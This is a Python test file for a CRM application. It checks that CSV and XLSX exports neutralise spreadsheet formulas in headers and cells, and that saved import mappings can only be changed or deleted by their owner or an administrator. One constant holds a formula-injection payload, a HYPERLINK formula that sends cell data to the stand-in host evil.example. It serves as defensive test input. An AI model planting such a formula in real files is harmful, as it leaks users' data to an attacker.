"""Findings 12 and 13: export headers are formula-safe; a saved import mapping belongs to who saved it."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from core.testing import ApiClient, make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def test_export_headers_are_formula_neutralised_like_cells(crm_api):
    response = crm_api.post("/api/v1/meta/entities/accounts/fields",
                            json={"name": "danger", "label": FORMULA, "type": "text"})
    assert response.status_code == 201, response.get_json()
    created = crm_api.post("/api/v1/accounts", json={"name": "해동통신", "cf_danger": "=1+2"})
    assert created.status_code == 201, created.get_json()
    csv_file = crm_api.get("/api/v1/exports/accounts?format=csv&fields=name,cf_danger&lang=en")
    assert csv_file.status_code == 200
    header, row = list(csv.reader(io.StringIO(csv_file.get_data().decode("utf-8-sig"))))
    assert header == ["Account name", "'" + FORMULA]
    assert row == ["해동통신", "'=1+2"]
    xlsx_file = crm_api.get("/api/v1/exports/accounts?format=xlsx&fields=name,cf_danger&lang=en")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_file.get_data())).active
    assert [c.value for c in sheet[1]] == ["Account name", "'" + FORMULA]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.fixture
def importers(crm_app):
    def client(email, **kw):
        return ApiClient(crm_app.test_client(), make_user(crm_app, email, **kw)[1])

    return {"alice": client("alice@example.com", role="sales"), "bob": client("bob@example.com", role="sales"),
            "admin": client("boss@example.com", admin=True)}


def save(api, name="거래처 양식", mapping=None):
    return api.post("/api/v1/imports/accounts/mappings",
                    json={"name": name, "mapping": mapping or {"상호": "name"}})


def test_only_the_owner_or_an_administrator_overwrites_or_deletes_a_saved_mapping(importers):
    alice, bob, admin = importers["alice"], importers["bob"], importers["admin"]
    assert save(alice).status_code == 201
    refused = save(bob, mapping={"상호": "name", "전화": "phone"})
    assert refused.status_code == 403 and refused.get_json()["error"]["code"] == "forbidden"
    assert bob.delete("/api/v1/imports/accounts/mappings/거래처 양식").status_code == 403
    listed = bob.get("/api/v1/imports/accounts/mappings").get_json()["data"]
    assert [m["mapping"] for m in listed] == [{"상호": "name"}]  # unchanged, and others may still use it
    assert save(alice, mapping={"회사": "name"}).status_code == 201  # the owner replaces it
    assert save(admin, mapping={"거래처": "name"}).status_code == 201  # so may an administrator
    assert bob.delete("/api/v1/imports/accounts/mappings/거래처 양식").status_code == 403
    assert alice.delete("/api/v1/imports/accounts/mappings/거래처 양식").status_code == 204
    assert save(bob, name="박 양식").status_code == 201
    assert admin.delete("/api/v1/imports/accounts/mappings/박 양식").status_code == 204
    assert bob.get("/api/v1/imports/accounts/mappings").get_json()["data"] == []
